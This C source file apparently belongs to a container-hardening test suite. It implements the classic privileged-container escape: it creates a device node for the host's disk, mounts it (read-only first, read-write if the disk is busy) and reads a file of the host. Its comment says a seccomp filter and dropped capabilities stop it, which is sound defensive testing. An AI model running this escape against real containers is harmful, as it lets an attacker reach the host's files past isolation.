/* SPDX-License-Identifier: MIT
 *
 * Mount the host's disk, and read a file of the host there.
 *
 * A new root directory hides the host's tree, but it is still on the disk,
 * and root may mount that. This is the well-known way out of a "privileged"
 * container. Arguments: the disk, MAJOR:MINOR, and a file of the host.
 * Harmless: mounted read-only, in a copy of the mount table, where a tmpfs
 * holds the device file. A disk that is already mounted for writing cannot be
 * mounted read-only as well (EBUSY); then the same file system shows twice.
 * Step 4 stops it: the filter refuses unshare, mount and mknod, and the
 * capabilities that they need, SYS_ADMIN and MKNOD, are dropped.
 * See mount(2), "privileged" in docker-run(1).
 */
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

int main(int argc, char **argv)
{
    static const char *const types[] = {"ext4", "xfs", "btrfs", "f2fs"};
    unsigned major_number, minor_number;
    char path[4200], text[80] = "";
    int result = -1;

    if (argc != 3 ||
        sscanf(argv[1], "%u:%u", &major_number, &minor_number) != 2)
        does_not_apply("usage: mount_disk MAJOR:MINOR FILE-OF-THE-HOST");
    copy_mounts();
    if (mount("tmpfs", "/tmp", "tmpfs", 0, "size=64k") < 0)
        stopped("mount(tmpfs)");
    if (mknod("/tmp/disk", S_IFBLK | 0600,
              makedev(major_number, minor_number)) < 0)
        stopped("mknod");
    if (mkdir("/tmp/host", 0700) < 0)
        stopped("mkdir");
    for (size_t i = 0; i < sizeof(types) / sizeof(types[0]) && result; i++) {
        result = mount("/tmp/disk", "/tmp/host", types[i], MS_RDONLY, NULL);
        if (result < 0 && errno == EBUSY)
            result = mount("/tmp/disk", "/tmp/host", types[i], 0, NULL);
    }
    if (result < 0 && (errno == ENOTBLK || errno == ENXIO ||
                       errno == EINVAL || errno == ENODEV || errno == EBUSY))
        does_not_apply("%s is no disk with a file system known here",
                       argv[1]);
    if (result < 0)
        stopped("mount");

    snprintf(path, sizeof(path), "/tmp/host%s", argv[2]);
    FILE *file = fopen(path, "r");
    if (file == NULL)
        learned("mounted the disk %s of the host", argv[1]);
    if (fgets(text, sizeof(text), file) == NULL)
        stopped("read");
    text[strcspn(text, "\n")] = '\0';
    learned("on disk %s, %s says: %s", argv[1], argv[2], text);
}
